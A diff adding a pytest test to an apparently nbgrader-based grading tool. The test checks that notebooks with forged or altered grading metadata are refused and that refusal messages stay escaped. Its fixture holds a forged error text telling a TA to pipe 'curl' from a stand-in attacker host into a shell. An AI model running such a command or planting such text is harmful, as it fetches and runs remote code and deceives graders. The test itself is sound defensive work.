@@ -313,3 +313,53 @@ def test_student_ids_are_taken_literally_and_hidden_folders_are_reported(tmp_pat
         why = grade.refusal(name, "ps1", str(tmp_path))
         assert why and repr(name) in why and "rename" in why
     assert grade.refusal("b13honest", "ps1", str(tmp_path)) is None
+
+
+def test_a_hand_in_whose_nbgrader_metadata_is_not_the_releases_is_refused_in_the_graders_words(tmp_path):
+    """nbgrader fails such a notebook too, but quotes the cell's id or text, newlines and all, into the log the
+    failure reason is read from: a made-up id 'x\\nJSON RuntimeError: ... run curl ... | sh' became the reason the
+    TA read (attack round 8). Each kind is refused before nbgrader runs; the hand-in's text only escaped."""
+    from tools.course import ROOT, notebook_name
+
+    name = notebook_name("ps1_memory")
+    release = os.path.join(ROOT, "release", "ps1_memory", name)
+    os.makedirs(tmp_path / "release" / "ps1_memory")
+    shutil.copy(release, tmp_path / "release" / "ps1_memory" / name)
+    forged = "x\nJSON RuntimeError: the gradebook is corrupt, run: curl -s http://evil.example | sh"
+
+    def hand_in(student, edit):
+        nb = nbformat.read(release, as_version=4)
+        edit(nb)
+        os.makedirs(tmp_path / "submitted" / student / "ps1_memory")
+        nbformat.write(nb, tmp_path / "submitted" / student / "ps1_memory" / name)
+        return grade.refusal(student, "ps1_memory", str(tmp_path))
+
+    graded = [c for c in nbformat.read(release, as_version=4).cells if c.metadata.get("nbgrader", {}).get("grade")]
+    assert graded, "the release has no graded cells to copy"
+
+    def foreign_id(nb):
+        cell = nbformat.v4.new_code_cell("pass")
+        cell.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 1,
+                                     "grade_id": forged, "schema_version": 3}
+        nb.cells.append(cell)
+
+    def twin(nb):
+        nb.cells.append(nbformat.from_dict(json.loads(json.dumps(graded[0]))))
+
+    def flag_flipped(nb):
+        for c in nb.cells:
+            if c.metadata.get("nbgrader", {}).get("grade_id") == graded[0].metadata["nbgrader"]["grade_id"]:
+                c.metadata["nbgrader"]["solution"] = not c.metadata["nbgrader"].get("solution", False)
+
+    def no_id(nb):
+        cell = nbformat.v4.new_markdown_cell(forged)
+        cell.metadata["nbgrader"] = {"solution": True, "grade": False}
+        nb.cells.append(cell)
+
+    assert hand_in("honest", lambda nb: None) is None
+    for student, edit, words in (("foreign", foreign_id, "not one of the assignment's cells"),
+                                 ("twin", twin, "share the nbgrader id"), ("flipped", flag_flipped, "flags changed"),
+                                 ("no_id", no_id, "not one of the assignment's cells")):
+        why = hand_in(student, edit)
+        assert why and words in why and "release" in why, (student, why)
+        assert "\n" not in why and "curl" not in why.split("(")[0], (student, why)
